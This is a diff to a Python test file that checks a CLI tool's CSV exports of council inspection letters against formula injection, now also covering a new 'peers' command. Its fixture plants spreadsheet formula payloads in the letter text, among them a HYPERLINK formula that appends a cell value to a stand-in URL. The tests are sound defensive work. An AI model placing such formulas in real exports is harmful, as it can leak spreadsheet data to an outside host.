@@ -69,17 +69,35 @@ def _csv_commands() -> list[list[str]]:
     return found
 
 
+SAMPLE = (
+    Path(__file__).resolve().parents[1]
+    / "letters"
+    / ("north-east-lincolnshire-2021-06-focused-visit.txt")
+)
+
+
 @pytest.fixture
 def hostile_db(db_path: Path, tmp_path: Path) -> Path:
-    """A database whose letter text, titles, owners, notes and refs all start formulas."""
-    letter = tmp_path / "letter.txt"
-    text = LETTER_TEXT.replace(
-        "Children are seen regularly",
-        '=HYPERLINK("http://x/?"&A1,"x") Children;=1+1 are seen regularly',
-    ).replace("The quality and timeliness", "@SUM(1) -2+3 The quality and timeliness")
-    letter.write_text(text, encoding="utf-8")
+    """A database whose letters' text, titles, owners, notes and refs all start formulas: the
+    sample letter and a copy of it about another council (for `peers`)."""
+    text = (
+        SAMPLE.read_text(encoding="utf-8")
+        .replace(
+            "the sufficiency and stability",
+            '=HYPERLINK("http://x/?"&A1,"x") the sufficiency;=1+1 and stability',
+        )
+        .replace(
+            "North East Lincolnshire had relatively", "@SUM(1) -2+3 North East Lincolnshire had"
+        )
+    )
     conn = open_db(db_path).conn
-    ingest_file(conn, letter, Classifier(enabled=False))
+    for name, body in (
+        ("letter.txt", text),
+        ("other.txt", text.replace("North East Lincolnshire", "Otherton")),
+    ):
+        letter = tmp_path / name
+        letter.write_text(body, encoding="utf-8")
+        ingest_file(conn, letter, Classifier(enabled=False))  # fmt: skip
     runner = CliRunner()
     for i, hostile in enumerate(HOSTILE):
         result = runner.invoke(
@@ -98,12 +116,14 @@ def hostile_db(db_path: Path, tmp_path: Path) -> Path:
 
 
 def test_every_command_with_csv_output_is_known() -> None:
-    assert sorted(_csv_commands()) == [["actions", "export"], ["actions", "list"], ["search"]]
+    assert sorted(_csv_commands()) == [
+        ["actions", "export"], ["actions", "list"], ["peers"], ["search"]
+    ]  # fmt: skip
 
 
 @pytest.mark.parametrize("command", _csv_commands(), ids=" ".join)
 def test_no_csv_cell_begins_a_formula(hostile_db: Path, command: list[str]) -> None:
-    args = {"search": ["search", "children"]}.get(command[0], command)
+    args = {"search": ["search", "sufficiency"], "peers": ["peers", "1:1"]}.get(command[0], command)
     result = CliRunner().invoke(app, [*args, "--csv"])
     assert result.exit_code == 0, result.output
     rows = list(csv.reader(io.StringIO(result.stdout)))
@@ -120,7 +140,7 @@ def test_no_cell_begins_a_formula_for_a_reader_with_another_separator(
 ) -> None:
     # Excel in a ';' locale splits a comma file at every ';', inside quotes or not, and a reader
     # may end a record at a line break inside quotes: no piece it could make starts a formula.
-    args = {"search": ["search", "children"]}.get(command[0], command)
+    args = {"search": ["search", "sufficiency"], "peers": ["peers", "1:1"]}.get(command[0], command)
     out = CliRunner().invoke(app, [*args, "--csv"]).stdout
     assert ";" in out
     pieces = [p for line in out.splitlines() for p in line.split(";")]
